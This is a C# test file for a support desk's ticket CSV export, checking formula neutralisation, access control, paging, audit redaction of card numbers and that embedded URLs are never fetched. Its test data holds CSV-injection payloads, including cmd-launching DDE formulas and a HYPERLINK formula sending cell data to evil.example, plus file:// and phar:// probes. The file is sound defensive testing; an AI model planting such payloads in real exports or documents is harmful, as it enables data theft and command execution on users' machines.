using System.Globalization;
using System.Net;
using System.Net.Sockets;
using System.Text;
using CsvHelper;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using SupportDesk.Data.Blobs;
using SupportDesk.Data.Entities;
using SupportDesk.Features.Tickets;
using SupportDesk.Kernel;
using SupportDesk.Tests.Support;

namespace SupportDesk.Tests.Features.Tickets.Export;

public sealed class ExportTicketsTests(ServedDesk served) : IClassFixture<ServedDesk>
{
    [Theory]
    [InlineData("=1+1")]
    [InlineData("+7 912 000-00-00 не дозвониться")]
    [InlineData("-2+3+cmd|' /C calc'!A0")]
    [InlineData("@SUM(1+1)*cmd|' /C calc'!A0")]
    [InlineData("=HYPERLINK(\"http://evil.example/?\"&A1; \"x\")")]
    public async Task T36_Title_SpreadsheetWouldTakeForAFormula_IsText(string title)
    {
        var desk = served.Desk;
        await desk.OpenAsync(Cases.Payer with { Title = title, RequesterName = title }, Actor.System);
        var row = (await ReadAsync(desk, desk.Agent)).Rows.MaxBy(each => each["Номер"])!;
        Assert.Equal("'" + title, row["Тема"]);
        Assert.Equal("'" + title, row["Заявитель"]);
    }

    // A spreadsheet of another language cuts the text at its own sign, and a cell begins in the midst of it.
    [Theory]
    [InlineData("заказ 5,=HYPERLINK(1)", "заказ 5,'=HYPERLINK(1)")]
    [InlineData("заказ 5;=1+1|@x", "заказ 5;'=1+1|'@x")]
    [InlineData("a-b + c = d", "a-b + c = d")]
    public async Task T36_Title_FormulaBehindACut_IsText(string title, string cell)
    {
        var desk = served.Desk;
        await desk.OpenAsync(Cases.Payer with { Title = title }, Actor.System);
        Assert.Equal(cell, (await ReadAsync(desk, desk.Agent)).Rows.MaxBy(each => each["Номер"])!["Тема"]);
    }

    // What leaves the desk as a document is plain text: nothing in it is looked up, neither here nor in a file.
    [Fact]
    public async Task T51_Export_AddressesAndFilesInItsWords_StayWords()
    {
        using var listener = new TcpListener(IPAddress.Loopback, 0);
        listener.Start();
        var secret = Path.GetTempFileName();
        await File.WriteAllTextAsync(secret, "content of a local file");
        await using var desk = await DeskFixture.ServeAsync();
        var title = $"<img src=\"http://127.0.0.1:{((IPEndPoint)listener.LocalEndpoint).Port}/x.png\"> <iframe src=\"file://{secret}\"> phar://{secret}";
        var ticket = await desk.OpenAsync(Cases.Merchant(desk, sent: false) with { Title = title, Text = title });
        Assert.Equal(title, Assert.Single((await ReadAsync(desk, desk.Agent)).Rows)["Тема"]);
        var added = await desk.UseAsync<AddEvidence, Result<long>>(add =>
            add.RunAsync(new($"{ticket.Number}", "a.txt", title), desk.Agent, CancellationToken.None)
        );
        var file = await desk.ReadAsync(db => db.Attachments.AsNoTracking().SingleAsync());
        using var stored = new StreamReader(desk.Services.GetRequiredService<BlobStore>().OpenRead(file.BlobKey));
        Assert.Equal((true, title, false), (added.Ok, await stored.ReadToEndAsync(), listener.Pending()));
        File.Delete(secret);
    }

    [Fact]
    public async Task T89_Audit_CardNumberTypedIntoTheSearch_IsNotKept()
    {
        await using var desk = await DeskFixture.ServeAsync();
        await desk.OpenAsync();
        using var client = await desk.SignInAsync(desk.Agent);
        using var answer = await client.GetAsync(TicketFilter.ExportPath + "?q=" + Uri.EscapeDataString(Cases.Card));
        Assert.Equal(HttpStatusCode.OK, answer.StatusCode);
        var kept = (await desk.ReadAsync(db => db.Audit.SingleAsync(record => record.Action == "tickets.export"))).Subject;
        Assert.Contains("1111", kept, StringComparison.Ordinal);
        Assert.DoesNotContain("4111", Uri.UnescapeDataString(kept), StringComparison.Ordinal);
    }

    [Fact]
    public async Task Get_ListOfAgent_HoldsWhatTheListHoldsInItsOrder()
    {
        await using var desk = await DeskFixture.ServeAsync();
        var first = await desk.OpenAsync();
        await desk.OpenAsync(Cases.Payer with { Title = "Сумма «1;5», и \"кавычки\"\nи строка" }, Actor.System);
        var (answer, rows) = await ReadAsync(desk, desk.Agent);

        Assert.Equal("text/csv", answer.Content.Headers.ContentType!.MediaType);
        Assert.Equal(
            ("attachment", true),
            (
                answer.Content.Headers.ContentDisposition!.DispositionType,
                answer.Content.Headers.ContentDisposition.FileNameStar!.EndsWith(".csv", StringComparison.Ordinal)
            )
        );
        Assert.Equal(["nosniff"], answer.Headers.GetValues("X-Content-Type-Options"));
        Assert.Equal(2, rows.Count);
        Assert.StartsWith("Сумма «1;5», и \"кавычки\"", rows[0]["Тема"], StringComparison.Ordinal);
        Assert.Equal((TicketNumber.Format(first.Number), "магазин", "ждём провайдера"), (rows[1]["Номер"], rows[1]["Чьё"], rows[1]["Состояние"]));
        Assert.Equal(Cases.Merchant(desk).Payment.Amount!.Value.ToString("0.00", CultureInfo.GetCultureInfo("ru")), rows[1]["Сумма"]);
        Assert.Equal("/desk/tickets?status=all", (await desk.ReadAsync(db => db.Audit.SingleAsync(record => record.Action == "tickets.export"))).Subject);
    }

    [Fact]
    public async Task Get_MerchantStaff_HoldsTheirShopOnlyAndGuestsAreTurnedAway()
    {
        await using var desk = await DeskFixture.ServeAsync();
        await desk.OpenAsync();
        await desk.OpenAsync(Cases.Payer, Actor.System);
        Assert.Single((await ReadAsync(desk, desk.Merchant)).Rows);
        Assert.Empty((await ReadAsync(desk, desk.Stranger)).Rows);
        using var guest = desk.CreateClient();
        Assert.Equal(HttpStatusCode.Redirect, (await guest.GetAsync(TicketFilter.ExportPath)).StatusCode);
    }

    [Fact]
    public async Task Get_MoreThanOnePage_HasNoGapAndNoRepeat()
    {
        await using var desk = await DeskFixture.ServeAsync();
        await desk.OpenAsync();
        await CopyAsync(desk, 2400);
        var numbers = (await ReadAsync(desk, desk.Agent)).Rows.Select(row => row["Номер"]).ToList();
        Assert.Equal(2401, numbers.Count);
        Assert.Equal(2401, numbers.Distinct().Count());
    }

    private static Task<int> CopyAsync(DeskFixture desk, int count) =>
        desk.ReadAsync(async db =>
        {
            var first = await db.Tickets.AsNoTracking().FirstAsync();
            var columns = db.Model.FindEntityType(typeof(Ticket))!.GetTableMappings().Single().Table.Columns.Select(column => column.Name).ToList();
            var values = columns.Select(name =>
                name switch
                {
                    "Id" => "printf('%08X-0000-4000-8000-000000000000', n.i)",
                    "Number" => "t.\"Number\" + n.i",
                    // Several with the same time stand on both sides of a page's end.
                    "ChangedAt" => "t.\"ChangedAt\" + n.i / 7",
                    _ => $"t.\"{name}\"",
                }
            );
            var sql =
                $"WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < {count}) "
                + $"INSERT INTO \"Tickets\" ({string.Join(", ", columns.Select(name => $"\"{name}\""))}) "
                + $"SELECT {string.Join(", ", values)} "
                + $"FROM n, \"Tickets\" AS t WHERE t.\"Number\" = {first.Number}";
#pragma warning disable EF1002, EF1003 // Column names and numbers of our own.
            return await db.Database.ExecuteSqlRawAsync(sql);
#pragma warning restore EF1002, EF1003
        });

    private static async Task<(HttpResponseMessage Answer, List<Dictionary<string, string>> Rows)> ReadAsync(DeskFixture desk, Actor actor)
    {
        using var client = await desk.SignInAsync(actor);
        client.DefaultRequestHeaders.AcceptLanguage.ParseAdd("ru");
        var answer = await client.GetAsync(TicketFilter.ExportPath + "?status=all");
        var bytes = await answer.Content.ReadAsByteArrayAsync();
        Assert.True(bytes.AsSpan().StartsWith(Encoding.UTF8.Preamble));
        using var text = new StringReader(Encoding.UTF8.GetString(bytes.AsSpan(3)));
        using var csv = CsvReader.Create(text, new CsvReaderOptions { Separator = ';' });
        var rows = new List<Dictionary<string, string>>();
        await csv.ReadHeaderAsync();
        while (await csv.ReadAsync())
            rows.Add(csv.Headers.ToDictionary(column => column, column => csv.GetString(column)));
        return (answer, rows);
    }
}
